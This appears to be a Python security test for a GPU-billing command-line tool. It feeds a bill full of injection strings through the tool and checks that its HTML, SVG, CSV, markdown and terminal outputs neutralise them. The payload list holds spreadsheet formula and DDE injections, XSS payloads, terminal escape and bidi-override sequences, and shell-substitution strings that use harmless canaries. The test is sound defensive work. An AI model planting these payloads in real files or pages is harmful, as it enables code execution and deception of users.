"""hostile.py GPUBILL SOURCE_DIR - whatever a bill holds is shown and never run.

A bill whose every text wants to be a formula, markup, a command, an escape sequence or a change of
direction is reviewed in both languages, with all outputs; each output is then read as the program
that opens it would.
"""
import csv
import json
import os
import pty
import re
import shutil
import subprocess
import sys
import tempfile
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

GPUBILL, SOURCE = sys.argv[1], Path(sys.argv[2])
TEXTS = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"a")', "+1+cmd|'x'!A0", "-1+1",
    "@SUM(1+1)*cmd|'x'!A0", "\t=1+1", "＝1+1",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title></svg><b>x</b>",
    "\"><svg onload=alert(1)>", "javascript:alert(1)", "{{script}}", "]]><a/>", "<!-- x", "&lt;b&gt;",
    "[a](javascript:alert(1))", "![a](http://x.example/a.png)", "a|b|c", "`code` **bold** _i_ # h",
    "\x1b[31mred\x1b]0;title\x07", "\x9b31m", "‮cod.exe", "⁦a⁩", "\u061ca\u200eb\u200fc", "a\r\nb", "\x00\x7f",
    "`touch canary`", "\"; system('touch canary'); \"", "$(touch canary)", "@touch", "{/Bold x}",
    "a;=1+1", "a; \t=cmd|'x'!A0", "\x0b=1+1", "\x1f=1+1", "\xa0=1+1", "a;\"=1+1",
    "http://x.example/a", "https://x.example", "www.x.example/a", "ftp://x.example", "me@x.example",
    "xmpp:me@x.example", "@octocat", "#12", "a/b#12", "GH-12", "a :smile: b", ":100:", "<http://x.example>",
    "[ref]: http://x.example", "- [ ] x", "1. x", "===", "---", "    code", "[^1]", "$x^2$", "&#61;1",
    "pwn:1", "date:2020-01-01, pwn:2", "[2020-01-01]", "a^b_c", "&{x}", "%s%n%x", "\\n\\\"", "'quoted'", "!touch canary",
]
TAGS = set("""a article b body br button caption code col colgroup dd desc details div dl dt em
    figcaption figure footer g h1 h2 h3 h4 head header html i input label legend li line link main
    meta nav ol option p path polygon polyline rect script section select small span strong style
    sub summary sup svg table tbody td text tfoot th thead time title tr tspan ul use""".split())
SVG = "{http://www.w3.org/2000/svg}"
SVG_TAGS = {SVG + tag for tag in "svg title g rect path text tspan polygon line polyline".split()}
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
wrong = []


def expect(what, is_so):
    if not is_so:
        wrong.append(what)
        print(what)


def write_bill(path):
    with open(path, "w", encoding="utf-8", newline="") as f:
        out = csv.writer(f)
        columns = ["platform", "account", "line_id", "instance", "resource", "resource_name", "item",
                   "description", "project", "tags", "region", "gpu_model"]
        out.writerow(columns + ["category", "start", "end", "amount"])
        for i, text in enumerate(TEXTS):
            row = [text] * len(columns)
            row[2] = f"{text}{i}"
            out.writerow(row + ["gpu", f"2026-03-{1 + i % 28:02} 10:00:00",
                                f"2026-03-{1 + i % 28:02} 11:00:00", f"{i + 1}.5"])
            # The same charge again, so that there are findings about all of these names.
            row[2] += "b"
            out.writerow(row + ["gpu", f"2026-03-{1 + i % 28:02} 10:00:00",
                                f"2026-03-{1 + i % 28:02} 11:00:00", f"{i + 1}.5"])
        out.writerow(["=autodl"] * len(columns) + ["gpu", "=1+1", "@x", "=2+2"])


class Page(HTMLParser):
    """The elements of a page: known ones alone, none with a handler or a way out."""

    def __init__(self, name):
        super().__init__(convert_charrefs=True)
        self.name, self.scripts, self.text = name, [], []

    def handle_starttag(self, tag, attributes):
        expect(f"{self.name}: an element <{tag}>", tag in TAGS)
        for key, value in attributes:
            expect(f"{self.name}: <{tag}> has {key}", not key.startswith("on"))
            if key in ("href", "src", "action", "xlink:href"):
                expect(f"{self.name}: <{tag}> leads to {value!r}",
                       re.fullmatch(r"#[\w.-]*|reimbursement\.html|report\.html|[\w-]+\.(csv|json|xlsx)",
                                    value or "") is not None)
        if tag == "script":
            self.scripts.append("")

    def handle_data(self, data):
        if self.lasttag == "script" and self.scripts and not self.scripts[-1]:
            self.scripts[-1] = data
        else:
            self.text.append(data)


def check_page(path):
    text = path.read_text(encoding="utf-8")
    page = Page(path.name)
    page.feed(text)
    page.close()
    expect(f"{path.name}: it holds what cannot be seen: {UNSEEN.search(text)}",
           not UNSEEN.search(text))
    expect(f"{path.name}: no policy", "Content-Security-Policy" in text or path.name != "report.html")
    own = [f.read_text(encoding="utf-8").strip()
           for f in (SOURCE / "reports" / "page").glob("*.js")]
    for script in page.scripts:
        expect(f"{path.name}: a script that is not ours", script.strip() in own)
    shown = "".join(page.text)
    for payload in ("<script>alert(1)</script>", "=cmd|' /C calc'!A0"):
        expect(f"{path.name}: {payload!r} is not shown",
               payload in shown or path.name != "report.html")


def check_svg(path):
    text = path.read_text(encoding="utf-8")
    for element in ElementTree.fromstring(text).iter():
        expect(f"{path.name}: an element {element.tag}", element.tag in SVG_TAGS)
        for key in element.keys():
            expect(f"{path.name}: an attribute {key}",
                   not key.startswith("on") and not key.endswith("href") and key != "style")
    expect(f"{path.name}: it holds what cannot be seen", not UNSEEN.search(text))


FORMULA = re.compile("[\\s\x00-\x20\x7f-\xa0\"\u200b-\u200f\ufeff]*[=+@＝＋－＠-]")


def check_csv(path):
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    for row in rows[1:]:
        expect(f"{path.name}: a row of {len(row)} cells", len(row) == len(rows[0]))
    # As a spreadsheet reads it, and as one that splits cells at other characters.
    text = path.read_text(encoding="utf-8", errors="strict")
    split = [re.split("[;\t\r\n]", text)]
    for row in rows[1:] + split + list(csv.reader(text.split("\n"), delimiter=";")):
        for cell in row:
            if FORMULA.match(cell) or cell[:1] in ("\t", "\r"):
                expect(f"{path.name}: the cell {cell!r} would be computed",
                       re.fullmatch(r"[+-]?\d+(\.\d+)?(,.*)?", cell, re.DOTALL) is not None)


def pipes(line):
    return len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))


LIVE = re.compile(r"@\w|#\d|://|www\.|(?i:gh)-\d|:[a-z_+-]+:|:100:")


class Rendered(HTMLParser):
    """Markdown as GitHub renders it: nothing leads away, and no text is made into more afterwards."""

    def handle_starttag(self, tag, attributes):
        source = dict(attributes).get("src", "")
        expect(f"report.md: <{tag}> {attributes}",
               tag in "h1 h2 h3 p ul ol li table thead tbody tr th td em strong details summary br"
               " blockquote hr code".split()
               or tag == "img" and re.fullmatch(r"charts/[a-z-]+\.png", source))

    def handle_data(self, data):
        expect(f"report.md: {data!r} would come to life", not LIVE.search(data))


def check_rendered(text):
    try:
        import cmarkgfm
    except ImportError:
        print("skipped: report.md is not rendered, cmarkgfm is not installed")
        return
    page = Rendered()
    page.feed(cmarkgfm.github_flavored_markdown_to_html(text))
    page.close()


def check_markdown(path):
    text = path.read_text(encoding="utf-8")
    expect(f"{path.name}: it holds what cannot be seen", not UNSEEN.search(text))
    for token in ("<script", "<img", "<svg", "](javascript", "](http://x", "`touch", "**bold**"):
        expect(f"{path.name}: {token!r} is not escaped",
               re.search(r"(?<!\\)" + re.escape(token), text) is None)
    expect(f"{path.name}: what would come to life: {LIVE.search(text)}", not LIVE.search(text))
    check_rendered(text)
    width = None
    for line in text.split("\n"):
        if not line.startswith("|"):
            width = None
            continue
        width = width or pipes(line)
        expect(f"{path.name}: a row of another width: {line[:80]}", pipes(line) == width)


def check_terminal(name, text):
    left = re.sub("\x1b\\[[0-9;]*m", "", text)
    expect(f"{name}: it holds what a terminal would obey: {UNSEEN.search(left)}",
           not UNSEEN.search(left))


def review(top, lang, folder):
    done = subprocess.run([GPUBILL, "review", "--lang", lang, "--color", "always", "--out", folder,
                           "in"], cwd=top, capture_output=True)
    expect(f"gpubill ended with {done.returncode}: {done.stderr[-300:]}", done.returncode == 0)
    for name, stream in (("standard output", done.stdout), ("standard error", done.stderr)):
        check_terminal(name, stream.decode("utf-8"))


def on_terminal(top, *arguments):
    """What gpubill writes to a terminal: both of its outputs."""
    ours, its = pty.openpty()
    process = subprocess.Popen([GPUBILL, *arguments], cwd=top, stdin=subprocess.DEVNULL,
                               stdout=its, stderr=its)
    os.close(its)
    told = b""
    while True:
        try:
            piece = os.read(ours, 65536)
        except OSError:
            break
        told += piece
    os.close(ours)
    process.wait()
    return told.decode("utf-8").replace("\r\n", "\n")


def check_tags(top):
    """Texts of bills are no tags of hledger, nor dates."""
    if not shutil.which("hledger"):
        print("skipped: hledger is not asked for tags, it is not installed")
        return
    subprocess.run([GPUBILL, "ledger", "--as", "hledger", "--quiet", "-o", "h.journal", "in"],
                   cwd=top, check=True)
    hledger = ["hledger", "-f", top / "h.journal"]
    for command in (["tags"], ["print", "date:2020"]):
        done = subprocess.run(hledger + command, capture_output=True, text=True, check=False,
                              env={**os.environ, "LC_ALL": "C.UTF-8"})
        expect(f"hledger {command}: {done.returncode} {done.stdout[:300]}{done.stderr[:300]}",
               done.returncode == 0 and not done.stdout)


def check_terminals(top):
    """Every command that shows what stands in a file, on a terminal."""
    ledger = ["ledger"], ["ledger", "--as", "ndjson"], ["ledger", "--as", "hledger"], \
        ["ledger", "--as", "beancount"], ["ledger", "--focus"]
    others = ["detect"], ["detect", "--json"], ["reconcile"], ["reconcile", "--json"], \
        ["review", "--verbose", "--out", "terminal", "--progress", "always"]
    for command in ledger + others:
        text = on_terminal(top, *command, "--config", "gpubill.json", "in")
        progress = r"\rReading \[[# ]*\][ \d%/MB]*|\r *\r"
        check_terminal(" ".join(command), re.sub(progress, "", text))
        expect(f"{command}: nothing hostile was shown", "\\x" in text)
    for command in (["rules", "--config", "gpubill.json"], ["formats", "--formats", "formats"],
                    ["rules", "custom:\x1b]0;r", "--config", "gpubill.json"],
                    ["rules", "--json", "--config", "gpubill.json"]):
        check_terminal(" ".join(command), on_terminal(top, *command))
        done = subprocess.run([GPUBILL, *command], cwd=top, capture_output=True)
        if "--json" not in command:
            check_terminal(" ".join(command), done.stdout.decode("utf-8"))
            expect(f"{command}: nothing hostile was shown", b"\\x1B]0;" in done.stdout)


def write_format(folder):
    """A format of somebody else, whose title wants to be obeyed."""
    folder.mkdir()
    source = SOURCE / "parsers" / "formats" / "autodl-statement.json"
    text = json.loads(source.read_text(encoding="utf-8"))
    text["id"], text["title"] = "evil-list", {"en": "\x1b]0;title\x07‮", "zh": "\x1b[2J"}
    (folder / "evil-list.json").write_text(json.dumps(text), encoding="utf-8")


def write_config(path):
    """Rules of the user, whose names come to the chart of leaks."""
    path.write_text(json.dumps({"custom_rules": [
        {"id": f"custom:r{i}" if i else "custom:\x1b]0;r", "certainty": "possible",
         "where": [{"field": "x_SourceLine", "matches": f"^{i * 2 + 2}$"}], "leak": {"share": "0.1"},
         "message": {"en": text, "zh": text}}
        for i, text in enumerate(["\x1b]0;title\x07\x9b31m"] + TEXTS[:8])]}))


def check(top, lang):
    out = top / lang
    review(top, lang, lang)
    for path in sorted(out.glob("*.html")):
        check_page(path)
    for path in sorted(out.glob("*.csv")):
        check_csv(path)
    for path in sorted((out / "charts").glob("*.svg")):
        check_svg(path)
    check_markdown(out / "report.md")
    expect("no findings were made", json.loads((out / "review.json").read_text())["findings"])
    expect("no workbook was made", (out / "review.xlsx").stat().st_size > 0)
    expect("a command of the bill was run", not list(top.rglob("canary")))


def main():
    with tempfile.TemporaryDirectory() as name:
        top = Path(name)
        (top / "in").mkdir()
        write_bill(top / "in" / "bill.csv")
        (top / "in" / "\x1b]0;title\x07‮.csv").write_text("a,b\n\x1b[31m,2\n", encoding="utf-8")
        write_format(top / "formats")
        write_config(top / "gpubill.json")
        for lang in ("en", "zh"):
            check(top, lang)
        check_terminals(top)
        check_tags(top)
        done = subprocess.run([GPUBILL, "ledger", "in"], cwd=top, capture_output=True)
        (top / "ledger-out.csv").write_bytes(done.stdout)
        check_csv(top / "ledger-out.csv")
        for line in subprocess.run([GPUBILL, "ledger", "--as", "ndjson", "in"], cwd=top,
                                   capture_output=True).stdout.splitlines():
            json.loads(line)
    sys.exit(1 if wrong else 0)


main()
